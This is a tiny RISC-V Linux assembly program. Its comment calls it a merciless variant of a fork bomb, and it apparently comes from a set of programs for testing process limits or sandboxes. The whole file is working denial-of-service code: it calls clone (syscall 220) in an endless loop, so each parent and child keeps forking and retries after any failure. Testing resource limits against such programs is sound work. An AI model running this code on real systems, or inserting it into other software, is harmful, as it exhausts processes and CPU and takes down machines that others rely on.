# As fork_bomb, without mercy: a failed fork is tried again.
        .text
        .globl  _start
_start: li      a0, 17
        li      a1, 0
        li      a2, 0
        li      a3, 0
        li      a4, 0
        li      a7, 220
        ecall
        j       _start
